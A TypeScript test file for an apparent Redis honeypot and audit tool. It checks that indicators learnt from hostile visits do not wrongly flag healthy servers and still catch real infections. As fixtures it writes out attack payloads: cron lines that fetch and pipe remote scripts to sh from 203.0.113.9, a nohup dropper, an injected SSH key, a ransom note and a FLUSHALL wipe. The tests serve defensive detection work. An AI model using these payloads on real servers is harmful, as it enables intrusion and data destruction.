import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { AuditKnowledge } from '../src/audit/audit-server.ts';
import { createLearntIndex } from '../src/audit/infection/learnt.ts';
import { loadVulnerabilities } from '../src/audit/vulnerable/vulnerability-data.ts';
import { startObservation } from '../src/cli/history.ts';
import { loadKnowledge } from '../src/cli/knowledge.ts';
import { createRuleMatcher } from '../src/detect/rule-matcher.ts';
import type { Act } from '../src/model/act.ts';
import { packagedText } from '../src/platform/files.ts';
import { audit } from './peers/hostile-audit.ts';
import type { RealRedis } from './peers/redis-server.ts';
import { startRedis } from './peers/redis-server.ts';

const shipped = loadKnowledge();

/** What the audit knows after one visit to a sensor that did this: rules, learning and all, as they are shipped. */
function after(...acts: Act[]): AuditKnowledge {
  const observation = startObservation(shipped);
  for (const [at, act] of acts.entries()) {
    observation.observe({
      id: `j-${at}`,
      time: 1_000 + at,
      vantage: 'sensor',
      sensor: 'redis',
      session: 'poisoner',
      peer: { address: '198.51.100.99', port: 4_000 },
      act,
    });
  }
  return {
    rules: createRuleMatcher(shipped.rules),
    campaigns: shipped.campaigns,
    learnt: createLearntIndex(observation.ledger.indicators()),
    vulnerabilities: loadVulnerabilities(packagedText('data/redis-cves.json')),
  };
}

const value = (key: string, text: string, kind: 'string' | 'set' = 'string'): Act => ({
  type: 'redis.value',
  db: 0,
  key,
  kind,
  value: text,
});
const master = (host: string, port = 6_379): Act => ({
  type: 'redis.replica-of',
  host,
  port,
  accepted: true,
});
const cron = (what: string): string => `\n\n*/1 * * * * root ${what} | sh\n\n`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
/** Makes any visit an attack that teaches. */
const WIPE: Act = { type: 'redis.command', name: 'flushall', args: [], db: 0, reply: 'ok' };
const PUBLIC_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEaHYgMN2F5dTzCTBXw5mSf1RFQBGHSAYyqJFmnYtHCl';

let server: RealRedis;
beforeAll(async () => {
  server = await startRedis();
});
afterAll(() => server.stop());
beforeEach(async () => {
  await server.client.replicaof('NO', 'ONE');
  await server.client.flushall();
  await server.client.config('RESETSTAT');
});

describe('a visitor of a sensor cannot accuse a healthy server', () => {
  type Case = readonly [string, readonly Act[], (client: RealRedis['client']) => Promise<unknown>];
  test.for<Case>([
    [
      'by a key and its value that every installation has',
      [value('rq:queues', 'rq:queue:default', 'set')],
      (client) => client.sadd('rq:queues', 'rq:queue:default'),
    ],
    [
      'by two key names that every installation has',
      [value('F2B_OPTIONS', 'anything at all'), value('Q_RELEASE_FORMAT', 'anything at all')],
      (client) => client.mset('F2B_OPTIONS', '{"ban_time":3600}', 'Q_RELEASE_FORMAT', 'raw'),
    ],
    [
      'by a payload hidden in the shape of its sessions',
      [value('k', `{"session":"${base64(cron('curl http://203.0.113.9/a'))}","user":12345}`)],
      (client) => client.set('sess', `{"session":"${base64('r4nd0m'.repeat(12))}","user":777}`),
    ],
    [
      'by a URL that every page holds',
      [value('k', cron('curl http://www.w3.org/2000/svg'))],
      (client) => client.set('page', '<svg xmlns="http://www.w3.org/2000/svg"></svg>'),
    ],
    [
      'by the URL of its web hook',
      [value('k', cron('curl https://hooks.example.net/T0/B0'))],
      (client) => client.set('hook', 'curl -fsS https://hooks.example.net/T0/B0'),
    ],
    [
      'by a URL inside every network',
      [value('k', cron('curl http://10.0.0.5/a'))],
      (client) => client.set('hook', 'curl -fsS http://10.0.0.5/a'),
    ],
    [
      'by the public key of somebody',
      [value('k', `\n\n${PUBLIC_KEY} git\n\n`)],
      (client) => client.set('deploy-key', `${PUBLIC_KEY} git`),
    ],
    [
      'by the public key of somebody, under its name',
      [value('deploy-key', `${PUBLIC_KEY} git`)],
      (client) => client.set('deploy-key', `${PUBLIC_KEY} git`),
    ],
    [
      'by the wallet of its shop',
      [
        value(
          'k',
          'Your data is backed up. Send 0.1 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa to recover it',
        ),
      ],
      (client) => client.set('donate', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'),
    ],
    [
      'by the name of its master',
      [master('redis-master')],
      (client) => client.replicaof('redis-master', 6_379),
    ],
    [
      'by the name that an operator gives its master',
      [master('redis-node-0.redis-headless.default.svc.cluster.local', 7_777)],
      (client) => client.replicaof('redis-node-0.redis-headless.default.svc.cluster.local', 7_777),
    ],
    [
      'by the public address of its master',
      [master('198.51.100.30')],
      (client) => client.replicaof('198.51.100.30', 6_379),
    ],
    [
      'by names that are too long to ask for',
      [value('K'.repeat(70_000), cron('curl http://203.0.113.9/a'))],
      (client) => client.set('honest', 'value'),
    ],
  ])('%s', async ([, visit, populate]) => {
    await populate(server.client);

    const report = await audit(`127.0.0.1:${server.port}`, { knowledge: after(...visit, WIPE) });

    expect(report.outcome).toBe('audited');
    expect(report.axes.infected.answer).toBe('no');
    expect(report.counts.maliciousValues).toBe(0);
    const worst = report.findings.filter(({ axis }) => axis === 'infected').map(({ severity }) => severity);
    expect(worst.filter((severity) => severity !== 'low' && severity !== 'info')).toEqual([]);
  });

  test('nor hide a proof behind many hints', async () => {
    const names = Array.from({ length: 60 }, (_, at) => `http://www.example.net/page/${at}`);
    for (const [at, url] of names.entries()) await server.client.set(`page${at}`, `<a href="${url}">x</a>`);
    await server.client.set('zz-dropper', 'nohup sh -x http://203.0.113.9/zq.sh &');
    const visit = [...names, 'http://203.0.113.9/zq.sh'].map((url, at) =>
      value(`k${at}`, cron(`curl ${url}`)),
    );

    const report = await audit(`127.0.0.1:${server.port}`, { knowledge: after(...visit) });

    expect(report.axes.infected.answer).toBe('yes');
    expect(report.axes.infected.because).toContain('http://203.0.113.9/zq.sh');
  });
});

describe('what a sensor learnt still finds', () => {
  test.for<readonly [string, readonly Act[], string, string]>([
    [
      'a key with its words',
      [value('zq81-owner', 'held by zq81, hands off')],
      'zq81-owner',
      'held by zq81, hands off',
    ],
    [
      'the address of the next stage in another command',
      [value('k', cron('curl http://203.0.113.9/a.sh'))],
      'zq-start',
      'nohup python3 -m loader http://203.0.113.9/a.sh &',
    ],
  ])('%s', async ([, visit, key, text]) => {
    await server.client.set(key, text);

    const blind = await audit(`127.0.0.1:${server.port}`, { knowledge: after() });
    const report = await audit(`127.0.0.1:${server.port}`, { knowledge: after(...visit, WIPE) });

    expect(blind.axes.infected.answer).toBe('no');
    expect(report.axes.infected.answer).toBe('yes');
    expect(report.counts.maliciousValues).toBe(1);
  });
});
